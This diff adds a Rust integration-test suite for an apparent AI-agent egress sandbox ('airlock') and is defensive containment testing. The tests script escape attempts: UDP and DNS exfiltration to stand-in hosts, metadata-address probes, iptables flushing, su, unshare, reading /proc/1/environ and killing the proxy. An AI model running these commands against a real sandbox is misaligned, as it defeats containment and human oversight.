@@ -1,0 +1,523 @@
+//! Foundation escape attempts (issue 2): the real entrypoint in its own network, mount and pid
+//! namespaces, the agent trying to get out, and tcpdump on the wire proving what left.
+//!
+//! Every test builds its own World (fake internet + sandbox namespace) and fails, never skips,
+//! when it cannot (not root, a tool missing).
+
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+
+mod common;
+
+use airlock_tests::World;
+use common::*;
+use std::time::{Duration, Instant};
+
+/// Sends one UDP datagram to the fake internet's UDP sink (203.0.113.10:443, as QUIC would).
+const UDP_SEND: &str = "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'exfil', ('203.0.113.10', 443))";
+
+fn world() -> World {
+    World::new().expect("build the namespace world (run as root; scripts/test installs the tools)")
+}
+
+#[test]
+fn an_agent_session_on_the_wire_only_the_proxy_leaves() {
+    let mut world = world();
+    let airlock = Airlock::new(&world, POLICY);
+    world.start_capture().unwrap();
+    let script = [
+        // Allowed, through the explicit proxy: HTTPS (CONNECT) and plain HTTP (absolute-form).
+        format!(
+            "echo https=$({})",
+            curl(
+                &world,
+                "-o /dev/null -w '%{http_code}' https://allowed.test/"
+            )
+        ),
+        format!(
+            "echo http=$({})",
+            curl(
+                &world,
+                "-o /dev/null -w '%{http_code}' http://allowed.test/"
+            )
+        ),
+        // Blocked host, IP literals, the metadata address, IPv6, a foreign resolver.
+        format!(
+            "echo blocked=$({})",
+            curl(
+                &world,
+                "-o /dev/null -w '%{http_code}' http://blocked.test/"
+            )
+        ),
+        format!(
+            "{} >/dev/null 2>&1; echo direct=$?",
+            curl(
+                &world,
+                "--noproxy '*' --connect-timeout 5 http://203.0.113.11/"
+            )
+        ),
+        format!(
+            "{} >/dev/null 2>&1; echo meta=$?",
+            curl(
+                &world,
+                "--noproxy '*' --connect-timeout 5 http://169.254.169.254/"
+            )
+        ),
+        format!(
+            "{} >/dev/null 2>&1; echo v6=$?",
+            curl(
+                &world,
+                "-6 --noproxy '*' --connect-timeout 5 'http://[2001:db8:113::10]/'"
+            )
+        ),
+        "dig +short +tries=1 +time=2 @203.0.113.54 blocked.test >/dev/null 2>&1; echo dig=$?"
+            .to_owned(),
+        "ping -c1 -W2 203.0.113.10 >/dev/null 2>&1; echo ping=$?".to_owned(),
+        // UDP that is not DNS (QUIC, a custom tunnel): sent, and must not leave.
+        format!("python3 -c \"{UDP_SEND}\"; echo udp-sent=$?"),
+    ]
+    .join("\n");
+    let out = airlock.run(&world, &script);
+    let capture = world.stop_capture().unwrap();
+    assert_ok(&out);
+    let text = stdout(&out);
+    assert!(
+        text.contains("https=200"),
+        "allowed HTTPS through the proxy:\n{text}\n{}",
+        stderr(&out)
+    );
+    assert!(
+        text.contains("http=200"),
+        "allowed HTTP through the proxy:\n{text}"
+    );
+    assert!(text.contains("blocked=403"), "blocked host:\n{text}");
+    for probe in ["direct", "meta", "v6", "ping"] {
+        assert!(
+            text.contains(&format!("{probe}=")),
+            "{probe} did not run:\n{text}"
+        );
+        assert!(
+            !text.contains(&format!("{probe}=0\n")),
+            "{probe} must fail:\n{text}"
+        );
+        assert!(
+            !text.contains(&format!("{probe}=127\n")),
+            "{probe}: tool missing, nothing was attempted:\n{text}"
+        );
+    }
+    assert!(
+        text.contains("dig="),
+        "the foreign-resolver query ran (the wire check below proves it never left):\n{text}"
+    );
+
+    // Upstream saw only the proxy's allowed requests.
+    let upstream = world.upstream_log().unwrap();
+    assert!(
+        upstream.iter().all(|l| l["kind"] != "udp"),
+        "a UDP datagram reached upstream: {upstream:?}"
+    );
+    for line in &upstream {
+        let host = line
+            .get("host")
+            .and_then(|h| h.as_str())
+            .unwrap_or_default();
+        let qname = line
+            .get("qname")
+            .and_then(|h| h.as_str())
+            .unwrap_or_default();
+        assert!(
+            !host.contains("blocked") && !qname.contains("blocked"),
+            "reached upstream: {line}"
+        );
+        let server = line
+            .get("server")
+            .and_then(|s| s.as_str())
+            .unwrap_or_default();
+        assert!(
+            !server.starts_with("203.0.113.11") && !server.starts_with("169.254"),
+            "reached upstream: {line}"
+        );
+    }
+    assert!(
+        upstream
+            .iter()
+            .any(|l| l.get("kind").and_then(|k| k.as_str()) == Some("http")),
+        "the allowed requests reached upstream"
+    );
+
+    // On the wire: every packet is the proxy's.
+    let audit = airlock.audit();
+    let proxy_packets = assert_only_proxy_traffic(&world, &capture, &audit, &["allowed.test"]);
+    assert!(proxy_packets > 0, "the capture saw the proxy's connections");
+}
+
+#[test]
+fn a_blocked_host_gets_403_with_the_reason_and_nothing_reaches_upstream() {
+    let world = world();
+    let airlock = Airlock::new(&world, POLICY);
+    let script = [
+        curl(&world, "-D - -o /dev/null http://blocked.test/secret?q=1"),
+        format!(
+            "{}; echo connect=$?",
+            curl(&world, "-o /dev/null https://blocked.test/")
+        ),
+        curl(&world, "http://blocked.test/"),
+    ]
+    .join("\n");
+    let out = airlock.run(&world, &script);
+    assert_ok(&out);
+    let text = stdout(&out).to_ascii_lowercase();
+    assert!(text.contains("http/1.1 403"), "{text}");
+    assert!(
+        text.contains("x-airlock-error: blocked-by-policy"),
+        "{text}"
+    );
+    assert!(
+        text.contains("\"error\":\"blocked-by-policy\""),
+        "JSON body with the reason: {text}"
+    );
+    assert!(
+        !text.contains("connect=0"),
+        "CONNECT to a blocked host must fail: {text}"
+    );
+    let upstream = world.upstream_log().unwrap();
+    assert!(
+        upstream.iter().all(|l| !l.to_string().contains("blocked")),
+        "upstream saw the blocked host: {upstream:?}"
+    );
+    let audit = airlock.audit();
+    let denials: Vec<_> = audit
+        .iter()
+        .filter(|l| l["host"] == "blocked.test" && l["reason"] == "blocked-by-policy")
+        .collect();
+    assert!(
+        denials.len() >= 3,
+        "every denial is audited with its reason: {audit:?}"
+    );
+}
+
+#[test]
+fn a_direct_connection_to_an_upstream_ip_fails_fast() {
+    let world = world();
+    let airlock = Airlock::new(&world, POLICY);
+    // Without proxy variables at all, as a tool that ignores them would behave.
+    let script = format!(
+        "env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy {} -o /dev/null --connect-timeout 20 http://203.0.113.11/; echo rc=$?",
+        curl(&world, "")
+    );
+    let started = Instant::now();
+    let out = airlock.run(&world, &script);
+    let took = started.elapsed();
+    assert_ok(&out);
+    assert!(
+        !stdout(&out).contains("rc=0"),
+        "direct connection succeeded: {}",
+        stdout(&out)
+    );
+    // A silent DROP would hang until the 20 s connect timeout; REJECT fails at once.
+    assert!(
+        took < Duration::from_secs(15),
+        "the direct connection hung ({took:?}) instead of failing fast"
+    );
+    assert!(world.upstream_log().unwrap().iter().all(|l| {
+        l["server"]
+            .as_str()
+            .is_none_or(|s| !s.starts_with("203.0.113.11"))
+    }));
+}
+
+#[test]
+fn ipv6_egress_fails() {
+    let world = world();
+    let airlock = Airlock::new(&world, POLICY);
+    let script = [
+        format!("{} -o /dev/null --noproxy '*' --connect-timeout 5 'http://[2001:db8:113::10]/'; echo tcp6=$?", curl(&world, "-6")),
+        "dig +tries=1 +time=2 @2001:db8:100::1 allowed.test >/dev/null 2>&1; echo dns6=$?".to_owned(),
+        "ping -6 -c1 -W2 2001:db8:113::10 >/dev/null 2>&1; echo ping6=$?".to_owned(),
+    ]
+    .join("\n");
+    let out = airlock.run(&world, &script);
+    assert_ok(&out);
+    let text = stdout(&out);
+    for probe in ["tcp6", "dns6", "ping6"] {
+        assert!(
+            text.contains(&format!("{probe}=")) && !text.contains(&format!("{probe}=0\n")),
+            "{probe} must fail:\n{text}"
+        );
+        assert!(
+            !text.contains(&format!("{probe}=127\n")),
+            "{probe}: tool missing:\n{text}"
+        );
+    }
+    assert!(
+        world
+            .upstream_log()
+            .unwrap()
+            .iter()
+            .all(|l| !l.to_string().contains("2001:db8")),
+        "IPv6 reached upstream"
+    );
+}
+
+#[test]
+fn a_foreign_dns_server_is_unreachable_and_the_query_never_leaves() {
+    let mut world = world();
+    let airlock = Airlock::new(&world, POLICY);
+    world.start_capture().unwrap();
+    let script = [
+        "dig +tries=1 +time=2 @203.0.113.54 exfil-abc123.blocked.test TXT; echo udp=$?",
+        "dig +tcp +tries=1 +time=2 @203.0.113.54 exfil-def456.blocked.test; echo tcp=$?",
+    ]
+    .join("\n");
+    let out = airlock.run(&world, &script);
+    let capture = world.stop_capture().unwrap();
+    assert_ok(&out);
+    let text = stdout(&out);
+    assert!(
+        !text.contains("status: NOERROR"),
+        "a foreign resolver answered:\n{text}"
+    );
+    let queries = world
+        .upstream_log()
+        .unwrap()
+        .into_iter()
+        .filter(|l| l["kind"] == "dns")
+        .collect::<Vec<_>>();
+    assert!(
+        queries
+            .iter()
+            .all(|q| !q["qname"].as_str().unwrap_or_default().contains("exfil")),
+        "query reached upstream: {queries:?}"
+    );
+    assert!(
+        capture
+            .dns_queries()
+            .iter()
+            .all(|(_, q, _)| !q.contains("exfil")),
+        "the query crossed the wire"
+    );
+}
+
+#[test]
+fn the_agent_cannot_change_or_read_the_firewall() {
+    let world = world();
+    let airlock = Airlock::new(&world, POLICY);
+    let script = "iptables -F 2>&1; echo flush=$?; iptables -P OUTPUT ACCEPT 2>&1; echo policy=$?; \
+                  ip6tables -F 2>&1; echo flush6=$?; printf '*filter\\n:OUTPUT ACCEPT [0:0]\\nCOMMIT\\n' | iptables-restore 2>&1; echo restore=$?; iptables-save >/dev/null 2>&1; echo save=$?; \
+                  ip link set lo down 2>&1; echo link=$?; ip route add 1.2.3.0/24 dev lo 2>&1; echo route=$?";
+    let out = airlock.run(&world, script);
+    assert_ok(&out);
+    let text = stdout(&out);
+    for step in [
+        "flush", "policy", "flush6", "restore", "save", "link", "route",
+    ] {
+        assert!(
+            text.contains(&format!("{step}=")) && !text.contains(&format!("{step}=0")),
+            "{step} succeeded:\n{text}"
+        );
+    }
+    // The rules are still in place after the agent's attempts.
+    let save = std::process::Command::new("ip")
+        .args(["netns", "exec", world.sandbox_ns(), "iptables-save"])
+        .output()
+        .unwrap();
+    let rules = String::from_utf8_lossy(&save.stdout);
+    assert!(
+        rules.contains(":OUTPUT DROP"),
+        "OUTPUT policy changed:\n{rules}"
+    );
+    assert!(rules.contains("AIRLOCK"), "our nat chain is gone:\n{rules}");
+}
+
+#[test]
+fn the_agent_has_no_privileges_left() {
+    let world = world();
+    let airlock = Airlock::new(&world, POLICY);
+    let script = "grep -E '^(Uid|Gid|Groups|CapInh|CapPrm|CapEff|CapBnd|CapAmb|NoNewPrivs|Seccomp):' /proc/self/status; \
+                  su -c id root </dev/null >/dev/null 2>&1; echo su=$?; \
+                  unshare -U -r id >/dev/null 2>&1; echo userns=$?; \
+                  cat /proc/1/environ >/dev/null 2>&1; echo pid1env=$?";
+    let out = airlock.run(&world, script);
+    assert_ok(&out);
+    let text = stdout(&out);
+    let agent = world.users().agent;
+    let field = |name: &str| -> String {
+        text.lines()
+            .find_map(|l| l.strip_prefix(&format!("{name}:")))
+            .map(|v| v.trim().to_owned())
+            .unwrap_or_default()
+    };
+    for cap in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
+        assert_eq!(field(cap), "0000000000000000", "{cap}:\n{text}");
+    }
+    assert_eq!(field("NoNewPrivs"), "1");
+    assert_eq!(field("Seccomp"), "2", "seccomp filter mode");
+    assert_eq!(
+        field("Uid").split_whitespace().collect::<Vec<_>>(),
+        vec![agent.to_string(); 4]
+    );
+    assert_eq!(
+        field("Groups"),
+        agent.to_string(),
+        "only the agent's own group"
+    );
+    for step in ["su", "userns", "pid1env"] {
+        assert!(
+            text.contains(&format!("{step}=")) && !text.contains(&format!("{step}=0")),
+            "{step} succeeded:\n{text}"
+        );
+    }
+}
+
+#[test]
+fn the_agent_cannot_kill_the_proxy() {
+    let world = world();
+    let airlock = Airlock::new(&world, POLICY);
+    let script = format!(
+        "pid=$(pgrep -x airlock-proxy); echo proxy=$pid; kill -9 $pid 2>&1; echo kill=$?; kill -STOP $pid; echo stop=$?; \
+         sleep 0.2; echo after=$({})",
+        curl(
+            &world,
+            "-o /dev/null -w '%{http_code}' https://allowed.test/"
+        )
+    );
+    let out = airlock.run(&world, &script);
+    assert_ok(&out);
+    let text = stdout(&out);
+    assert!(
+        text.lines()
+            .any(|l| l.starts_with("proxy=") && l.len() > "proxy=".len()),
+        "the agent can see the proxy's pid:\n{text}"
+    );
+    assert!(
+        !text.contains("kill=0") && !text.contains("stop=0"),
+        "the agent signalled the proxy:\n{text}"
+    );
+    assert!(
+        text.contains("after=200"),
+        "the proxy still serves:\n{text}"
+    );
+}
+
+#[test]
+fn the_agent_exit_status_is_the_container_exit_status() {
+    let world = world();
+    let airlock = Airlock::new(&world, POLICY);
+    let out = airlock.run(&world, "exit 7");
+    assert_eq!(out.status.code(), Some(7), "{}", stderr(&out));
+    let out = airlock.run(&world, "kill -KILL $$");
+    assert_eq!(out.status.code(), Some(128 + 9), "{}", stderr(&out));
+}
+
+#[test]
+fn the_supervisor_restarts_a_dead_proxy() {
+    let world = world();
+    let airlock = Airlock::new(&world, POLICY);
+    let code = "-o /dev/null -w '%{http_code}' https://allowed.test/";
+    let script = format!(
+        "echo before=$({}); touch ready; while [ ! -e killed ]; do sleep 0.05; done; sleep 0.3; echo after=$({})",
+        curl(&world, code),
+        curl(&world, code)
+    );
+    let child = airlock
+        .command(&world, &["sh", "-c", &script])
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let ready = airlock.workdir.join("ready");
+    let deadline = Instant::now() + Duration::from_secs(20);
+    while !ready.exists() {
+        assert!(Instant::now() < deadline, "the agent never became ready");
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    // Kill the proxy from outside (root on the host), as a crash would.
+    let pids = std::process::Command::new("ip")
+        .args(["netns", "pids", world.sandbox_ns()])
+        .output()
+        .unwrap();
+    let proxy: Vec<String> = String::from_utf8_lossy(&pids.stdout)
+        .lines()
+        .filter(|pid| {
+            std::fs::read_to_string(format!("/proc/{pid}/comm"))
+                .is_ok_and(|c| c.trim() == "airlock-proxy")
+        })
+        .map(str::to_owned)
+        .collect();
+    assert_eq!(proxy.len(), 1, "exactly one proxy runs: {proxy:?}");
+    assert!(
+        std::process::Command::new("kill")
+            .args(["-9", &proxy[0]])
+            .status()
+            .unwrap()
+            .success()
+    );
+    std::fs::write(airlock.workdir.join("killed"), "").unwrap();
+    let out = child.wait_with_output().unwrap();
+    assert_ok(&out);
+    let text = stdout(&out);
+    assert!(
+        text.contains("before=200") && text.contains("after=200"),
+        "{text}\n{}",
+        stderr(&out)
+    );
+    assert!(
+        stderr(&out).contains("restarting"),
+        "the restart is reported:\n{}",
+        stderr(&out)
+    );
+}
+
+#[test]
+fn sigterm_reaches_the_agent_and_the_audit_log_is_flushed() {
+    let world = world();
+    let airlock = Airlock::new(&world, POLICY);
+    let script = format!(
+        "trap 'echo got-term; exit 3' TERM; {} >/dev/null; touch ready; while :; do sleep 0.05; done",
+        curl(&world, "http://blocked.test/")
+    );
+    let child = airlock
+        .command(&world, &["sh", "-c", &script])
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let ready = airlock.workdir.join("ready");
+    let deadline = Instant::now() + Duration::from_secs(20);
+    while !ready.exists() {
+        assert!(Instant::now() < deadline, "the agent never became ready");
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    let pids = std::process::Command::new("ip")
+        .args(["netns", "pids", world.sandbox_ns()])
+        .output()
+        .unwrap();
+    let init: Vec<String> = String::from_utf8_lossy(&pids.stdout)
+        .lines()
+        .filter(|pid| {
+            std::fs::read_to_string(format!("/proc/{pid}/comm"))
+                .is_ok_and(|c| c.trim().starts_with("airlock-entryp"))
+        })
+        .map(str::to_owned)
+        .collect();
+    assert_eq!(init.len(), 1, "{init:?}");
+    assert!(
+        std::process::Command::new("kill")
+            .args(["-TERM", &init[0]])
+            .status()
+            .unwrap()
+            .success()
+    );
+    let out = child.wait_with_output().unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(3),
+        "the agent's trap ran and its status is ours\n{}",
+        stderr(&out)
+    );
+    assert!(stdout(&out).contains("got-term"));
+    let audit = airlock.audit();
+    assert!(
+        audit.iter().any(|l| l["host"] == "blocked.test"),
+        "the denial was flushed before exit: {audit:?}"
+    );
+}
